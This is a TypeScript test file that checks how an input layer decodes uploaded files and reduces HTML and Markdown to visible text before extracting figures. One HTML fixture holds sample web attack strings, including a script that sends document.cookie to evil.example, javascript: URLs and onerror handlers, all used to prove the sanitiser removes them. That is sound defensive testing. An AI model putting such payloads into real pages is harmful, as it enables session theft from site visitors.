import fc from "fast-check";
import { describe, expect, it } from "vitest";
import {
  articleTextFrom,
  decodeText,
  firstInvalidUtf8Byte,
  formatOf,
  htmlTitle,
  InputError,
  MAX_INPUT_BYTES,
  reduceToText,
} from "../../lib/input/index";
import { extractArticle } from "../../lib/extract/article";

/** A reader's own file: bytes → text → what the extractor reads. Real bytes, the real parser, the real extractor. */

const bytes = (...parts: Array<number[] | string>) =>
  new Uint8Array(parts.flatMap((part) => (typeof part === "string" ? [...new TextEncoder().encode(part)] : part)));

function utf16(text: string, order: "le" | "be", bom = true): Uint8Array {
  const out: number[] = bom ? (order === "le" ? [0xff, 0xfe] : [0xfe, 0xff]) : [];
  for (let i = 0; i < text.length; i++) {
    const unit = text.charCodeAt(i);
    out.push(...(order === "le" ? [unit & 0xff, unit >> 8] : [unit >> 8, unit & 0xff]));
  }
  return new Uint8Array(out);
}

function refusal(run: () => unknown): string {
  try {
    run();
  } catch (error) {
    expect(error).toBeInstanceOf(InputError);
    const message = (error as Error).message;
    expect(message.split("\n")).toHaveLength(1);
    return message;
  }
  throw new Error("expected an InputError, but nothing was thrown");
}

describe("decodeText refuses what is not UTF-8 text, with one line saying why", () => {
  it.each([
    ["an empty file", new Uint8Array(0), "a.txt: file is empty"],
    ["a PDF", bytes("%PDF-1.7\n%âãÏÓ\n1 0 obj"), "a.txt: looks binary (a PDF document), expected UTF-8 text"],
    [
      "a PNG",
      bytes([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d]),
      "a.txt: looks binary (a PNG image), expected UTF-8 text",
    ],
    [
      "a ZIP or .docx",
      bytes([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00]),
      "a.txt: looks binary (a ZIP archive, e.g. a Word .docx), expected UTF-8 text",
    ],
    ["a JPEG", bytes([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]), "a.txt: looks binary (a JPEG image), expected UTF-8 text"],
    ["a GIF", bytes("GIF89a", [1, 0, 1, 0]), "a.txt: looks binary (a GIF image), expected UTF-8 text"],
    [
      "text with a NUL byte",
      bytes("Exports rose 4%", [0], " in May."),
      "a.txt: looks binary (contains NUL bytes), expected UTF-8 text",
    ],
    ["UTF-16 LE with a BOM", utf16("Exports rose 4%.", "le"), "a.txt: is UTF-16; save it as UTF-8"],
    ["UTF-16 BE with a BOM", utf16("Exports rose 4%.", "be"), "a.txt: is UTF-16; save it as UTF-8"],
    ["UTF-16 LE without a BOM", utf16("Exports rose 4% in May.", "le", false), "a.txt: is UTF-16; save it as UTF-8"],
    ["UTF-32 LE with a BOM", bytes([0xff, 0xfe, 0, 0, 0x41, 0, 0, 0]), "a.txt: is UTF-32; save it as UTF-8"],
    ["Latin-1 (é as one byte)", bytes("Qu", [0xe9], "bec exports"), "a.txt: is not valid UTF-8 text (byte 2)"],
    ["a stray continuation byte", bytes("abc", [0x80], "def"), "a.txt: is not valid UTF-8 text (byte 3)"],
    ["an overlong two-byte NUL (C0 80)", bytes("ab", [0xc0, 0x80]), "a.txt: is not valid UTF-8 text (byte 2)"],
    [
      "an overlong three-byte form (E0 80 80)",
      bytes("x", [0xe0, 0x80, 0x80], "y"),
      "a.txt: is not valid UTF-8 text (byte 1)",
    ],
    [
      "a surrogate in CESU-8 (ED A0 80)",
      bytes("emoji ", [0xed, 0xa0, 0xbd, 0xed, 0xb8, 0x80]),
      "a.txt: is not valid UTF-8 text (byte 6)",
    ],
    [
      "a code point past U+10FFFF (F4 90 80 80)",
      bytes("ok ", [0xf4, 0x90, 0x80, 0x80]),
      "a.txt: is not valid UTF-8 text (byte 3)",
    ],
    [
      "a sequence cut short at the end (E2 82)",
      bytes("price €", [0xe2, 0x82]),
      "a.txt: is not valid UTF-8 text (byte 9)",
    ],
    [
      "FF FE followed by one byte (odd length: not UTF-16)",
      bytes([0xff, 0xfe, 0x41]),
      "a.txt: is not valid UTF-8 text (byte 0)",
    ],
  ])("%s", (_name, input, message) => {
    expect(refusal(() => decodeText(input, "a.txt"))).toBe(message);
  });

  it("refuses a file over the limit, saying both sizes in MB", () => {
    const big = new Uint8Array(Math.round(63.2 * 1024 * 1024));
    expect(refusal(() => decodeText(big, "big.txt"))).toBe("big.txt: file is 63.2 MB; the limit is 50 MB");
    expect(decodeText(new Uint8Array(MAX_INPUT_BYTES).fill(0x61), "limit.txt")).toHaveLength(MAX_INPUT_BYTES);
  });

  it("decodes UTF-8 exactly and drops a BOM", () => {
    const text = "Québec’s exports rose 4%: €1.2 billion, ¥30 bn, 📈 and שלום.";
    expect(decodeText(bytes(text), "a.txt")).toBe(text);
    expect(decodeText(bytes([0xef, 0xbb, 0xbf], text), "a.txt")).toBe(text);
  });

  it("finds the first bad byte exactly where the standard decoder fails, and only when it fails", () => {
    const strict = new TextDecoder("utf-8", { fatal: true });
    // Bytes near the UTF-8 boundaries, so overlong, surrogate and out-of-range forms come up often.
    const byte = fc.oneof(
      fc.integer({ min: 0x20, max: 0x7f }),
      fc.integer({ min: 0x80, max: 0xbf }),
      fc.constantFrom(0xc0, 0xc1, 0xc2, 0xdf, 0xe0, 0xed, 0xef, 0xf0, 0xf4, 0xf5, 0xff, 0x9f, 0xa0, 0x8f, 0x90),
    );
    fc.assert(
      fc.property(fc.array(byte, { maxLength: 24 }), (list) => {
        const input = new Uint8Array(list);
        const at = firstInvalidUtf8Byte(input);
        let valid = true;
        try {
          strict.decode(input);
        } catch {
          valid = false;
        }
        expect(at === -1).toBe(valid);
        if (!valid) {
          // Everything before the reported byte decodes; the reported byte starts no valid sequence.
          expect(() => strict.decode(input.subarray(0, at))).not.toThrow();
          expect(() => strict.decode(input.subarray(at, at + 4))).toThrow();
        }
      }),
      { numRuns: 3000 },
    );
  });
});

describe("formatOf", () => {
  it.each([
    ["article.txt", undefined, "text"],
    ["NOTES.TEXT", "", "text"],
    ["story.md", "", "markdown"],
    ["story.markdown", "text/plain", "markdown"],
    ["page.html", "", "html"],
    ["page.HTM", "", "html"],
    ["page.xhtml", "application/octet-stream", "html"],
    ["clipboard", "text/html; charset=utf-8", "html"],
    ["README", "text/markdown", "markdown"],
    ["notes", "text/plain", "text"],
    ["article.log", "text/plain", "text"],
    ["report.pdf", "application/pdf", null],
    ["report.docx", "", null],
    ["photo.png", "image/png", null],
    ["archive", undefined, null],
  ] as const)("%s (%s) → %s", (name, mime, format) => {
    expect(formatOf(name, mime)).toBe(format);
  });
});

describe("articleTextFrom", () => {
  it.each([
    ["empty text", "", "text"],
    ["white space only", " \n\t\r\n \u00a0 ", "text"],
    ["markdown with only syntax", "#\n\n---\n\n![chart](a.png)\n", "markdown"],
    [
      "HTML with only hidden content",
      "<html><head><title>T</title><script>var x = '$5 billion';</script></head><body> <!-- 4% --> </body></html>",
      "html",
    ],
  ] as const)("refuses %s: no text to analyse", (_name, raw, format) => {
    expect(refusal(() => articleTextFrom(raw, format))).toMatch(/^no text to analyse: /);
  });

  it("normalises Windows and old Mac line ends to \\n", () => {
    expect(articleTextFrom("Exports rose 4%.\r\nImports fell 2%.\rDone.", "text")).toBe(
      "Exports rose 4%.\nImports fell 2%.\nDone.",
    );
  });

  it("keeps plain text exactly as given", () => {
    const text = "  Headline\n\nExports rose *4%*  to <b>$12 billion</b>.";
    expect(reduceToText(text, "text")).toBe(text);
  });
});

describe("HTML is reduced to the text a reader sees", () => {
  const hostile = `<!doctype html>
<html><head><title>Trade &amp; tariffs</title>
<style>p::after { content: "$9 billion" }</style>
<script>document.write("$8 billion"); fetch("https://evil.example/?" + document.cookie)</script>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)"></head>
<body onload="alert('loaded')">
<h1 class=x>Canada’s   surplus</h1>
<p>The surplus was <b>$102.3&nbsp;billion</b> in 2024.<img src=x onerror="alert('$7 billion')">
<a href="javascript:alert(1)" onclick="steal()">Read more &raquo;</a></p>
<!-- <p>$6 billion in a comment</p> -->
<![CDATA[ $5 billion in CDATA ]]>
<noscript>Enable JavaScript for $4 billion</noscript>
<template><p>$3 billion in a template</p></template>
<svg viewBox="0 0 10 10"><title>An $2 billion chart</title><text>$1 billion</text><script>alert(2)</script></svg>
<iframe src="javascript:alert(3)">Your browser shows $11 billion</iframe>
<table><tr><th>Year<th>Exports<tr><td>2023<td>12 000 tonnes<tr><td>2024<td><table><tr><td>5%<td>6%</table></table>
<ul><li>Steel: 25%<li>Cars: 10%</ul>
<p>Unclosed paragraph with <i>unclosed italics
<div>Tariffs rose 2<br>percentage points<br><br>in March.</div>
<pre>  Year  Value
  2024  $5.1 billion</pre>
<script>unterminated("$12 billion")`;

  it("keeps the visible text only, with blocks on their own lines", () => {
    expect(reduceToText(hostile, "html")).toBe(
      [
        "Canada’s surplus",
        "",
        "The surplus was $102.3\u00a0billion in 2024. Read more »",
        "",
        "Year\tExports",
        "2023\t12 000 tonnes",
        "2024",
        "",
        "5%\t6%",
        "",
        "Steel: 25%",
        "Cars: 10%",
        "",
        "Unclosed paragraph with unclosed italics",
        "Tariffs rose 2",
        "percentage points",
        "",
        "in March.",
        "",
        "  Year  Value",
        "  2024  $5.1 billion",
      ].join("\n"),
    );
  });

  it("never lets script, style, comments, CDATA, attributes or hidden elements through", () => {
    const text = reduceToText(hostile, "html");
    for (const hidden of [
      "$9",
      "$8",
      "$7",
      "$6",
      "$5 billion in",
      "$4",
      "$3",
      "$2",
      "$1 billion",
      "$11",
      "$12",
      "alert",
      "javascript",
      "evil",
      "onerror",
      "cookie",
      "Trade & tariffs",
      "<",
      ">",
    ]) {
      expect(text).not.toContain(hidden);
    }
  });

  it.each([
    ["&amp; &lt; &gt; &quot; &#39;", "& < > \" '"],
    ["1&nbsp;234&#160;tonnes", "1\u00a0234\u00a0tonnes"],
    ["&euro;5 &#8364;6 &#x20AC;7 &pound;8 &yen;9", "€5 €6 €7 £8 ¥9"],
    ["4&thinsp;% and 5&#x202F;%", "4\u2009% and 5\u202f%"],
    ["AT&T &zzz; &amp", "AT&T &zzz; &"],
    ["a&shy;b &mdash; c", "a\u00adb — c"],
  ])("decodes entities: %s", (html, text) => {
    expect(reduceToText(`<p>${html}</p>`, "html")).toBe(text);
  });

  it.each([
    [
      "the hidden attribute",
      "<p>Exports rose 4%.</p><p hidden>Imports fell $9 billion.</p><img hidden src=x>Done.",
      "Exports rose 4%.\n\nDone.",
    ],
    [
      "inline display:none and visibility:hidden",
      '<div style="color:red; display: none">$9 billion</div><span style="visibility:hidden">$8 billion</span>Shown 4%',
      "Shown 4%",
    ],
    [
      "a hidden element with unclosed tags inside",
      "<div hidden><p>$9 billion<p>$8 billion</div><p>Shown 4%",
      "Shown 4%",
    ],
    ["a hidden table cell", "<table><tr><td hidden>$9 billion<td>4%</table>", "4%"],
  ])("drops what %s hides", (_name, html, text) => {
    expect(reduceToText(html, "html")).toBe(text);
  });

  it("collapses runs of white space inside a block, but not NBSP", () => {
    expect(reduceToText("<p>  Exports \n\t rose   <b> 4% </b>  in\u00a0\u00a0May </p>", "html")).toBe(
      "Exports rose 4% in\u00a0\u00a0May",
    );
  });

  it("separates sentences that only block elements divide", () => {
    const text = reduceToText(
      "<div>Exports rose 4%</div><div>Imports fell 2%</div><h2>Steel</h2><p>Tariff 25%</p>",
      "html",
    );
    expect(text).toBe("Exports rose 4%\nImports fell 2%\n\nSteel\n\nTariff 25%");
  });

  it("gives the document title separately, never an SVG's, null when blank or missing", () => {
    expect(htmlTitle(hostile)).toBe("Trade & tariffs");
    expect(htmlTitle("<svg><title>Chart</title></svg><title>\n  Real   title </title>")).toBe("Real title");
    expect(htmlTitle("<title>  </title><p>text</p>")).toBeNull();
    expect(htmlTitle("<p>No title</p>")).toBeNull();
  });

  it("extracts from the reduced text with exact offsets", () => {
    const text = articleTextFrom(hostile, "html");
    const { claims } = extractArticle({ id: "own", text, publishedAt: "2025-05-06", locale: "en-CA" });
    for (const claim of claims) expect(text.slice(claim.start, claim.end)).toBe(claim.quote);
    const figures = claims.filter((c) => c.kind !== "date").map((c) => [c.quote, c.value]);
    expect(figures).toEqual(
      expect.arrayContaining([
        ["$102.3\u00a0billion", 102300000000],
        ["12 000 tonnes", 12000],
        ["25%", 25],
        ["$5.1 billion", 5100000000],
      ]),
    );
    expect(
      figures.some(([, value]) => [9e9, 8e9, 7e9, 6e9, 4e9, 3e9, 2e9, 1e9, 11e9, 12e9].includes(value as number)),
    ).toBe(false);
  });
});

describe("Markdown is reduced to its prose", () => {
  it.each([
    ["ATX headings", "# Exports rose 4% #\n## Imports", "Exports rose 4%\n\nImports"],
    ["setext headings", "Exports rose\n============\n\nImports fell\n---", "Exports rose\n\nImports fell"],
    [
      "emphasis around words and figures",
      "Exports rose **4%** to *$12 billion*, __up__ _25%_ and ***sharply***.",
      "Exports rose 4% to $12 billion, up 25% and sharply.",
    ],
    [
      "nested emphasis and strikethrough",
      "**Tariffs of _25%_ on steel** and ~~10%~~ 15%",
      "Tariffs of 25% on steel and 10% 15%",
    ],
    [
      "markers inside numbers and words stay",
      "2_000 tonnes, snake_case_name, 5 * 3 * 2 and 2*3*4",
      "2_000 tonnes, snake_case_name, 5 * 3 * 2 and 2*3*4",
    ],
    [
      "links keep their text, images go",
      'A [report](https://x.org/a_(1) "Title") said ![chart](c.png) so; see [the data][d].',
      "A report said  so; see the data.",
    ],
    [
      "autolinks, footnotes and inline HTML",
      "Source: <https://stats.example/2024>[^1] and 5<sup>th</sup>.",
      "Source: https://stats.example/2024 and 5th.",
    ],
    [
      "inline code loses its backticks only",
      "Run `extract --format csv` for *25%*.",
      "Run extract --format csv for 25%.",
    ],
    ["escapes", "\\*Not emphasis\\* and 5\\_000", "*Not emphasis* and 5_000"],
    [
      "unmatched markers and brackets stay",
      "Exports *rose [4% _in May ![chart and **more",
      "Exports *rose [4% _in May ![chart and **more",
    ],
    ["a closing marker pairs with the nearest open one of its kind", "*a *b* c* and **d *e** f*", "a b c and d e f"],
    [
      "list bullets and numbers",
      "- Steel: 25%\n* Cars: 10%\n+ Wood\n1. First\n2) Second\n- [x] Done",
      "Steel: 25%\n\nCars: 10%\n\nWood\n\nFirst\n\nSecond\n\nDone",
    ],
    ["blockquotes", "> Exports rose\n> 4% in May.\n>\n> > Nested", "Exports rose 4% in May.\n\nNested"],
    [
      "a soft-wrapped paragraph becomes one line",
      "Canada's surplus was\n$102.3 billion in\n2024.",
      "Canada's surplus was $102.3 billion in 2024.",
    ],
    ["a hard break keeps the line", "Line one  \nLine two\\\nLine three", "Line one\nLine two\nLine three"],
    [
      "fenced code keeps its text",
      "Before\n```csv\nyear,value\n2024,5%\n```\nAfter",
      "Before\n\nyear,value\n2024,5%\n\nAfter",
    ],
    ["an unclosed fence keeps the rest", "~~~\n2024 5%\n2025 6%", "2024 5%\n2025 6%"],
    ["indented code", "Intro\n\n    2024  5%\n    2025  6%\n\nOutro", "Intro\n\n2024  5%\n2025  6%\n\nOutro"],
    [
      "tables become tab-separated rows",
      "| Year | Share |\n|:-----|------:|\n| 2024 | *5%* |\n| 2025 | 6% |",
      "Year\tShare\n2024\t5%\n2025\t6%",
    ],
    [
      "thematic breaks and reference definitions go",
      "One\n\n***\n\nTwo\n\n[d]: https://example.com/data\n- - -",
      "One\n\nTwo",
    ],
  ])("%s", (_name, markdown, text) => {
    expect(reduceToText(markdown, "markdown")).toBe(text);
  });

  it("extracts from the reduced text with exact offsets", () => {
    const markdown =
      "# Canada\n\nCanada's surplus was **$102.3 billion**\n(US$74.25 billion) in 2024.\n\n- Steel tariffs: *25 per cent*\n";
    const text = articleTextFrom(markdown, "markdown");
    const { claims } = extractArticle({ id: "own", text, publishedAt: "2025-05-06", locale: "en-CA" });
    for (const claim of claims) expect(text.slice(claim.start, claim.end)).toBe(claim.quote);
    expect(claims.filter((c) => c.kind !== "date").map((c) => [c.quote, c.value, c.unit])).toEqual([
      ["$102.3 billion", 102300000000, "CAD"],
      ["US$74.25 billion", 74250000000, "USD"],
      ["25 per cent", 25, "%"],
    ]);
  });
});
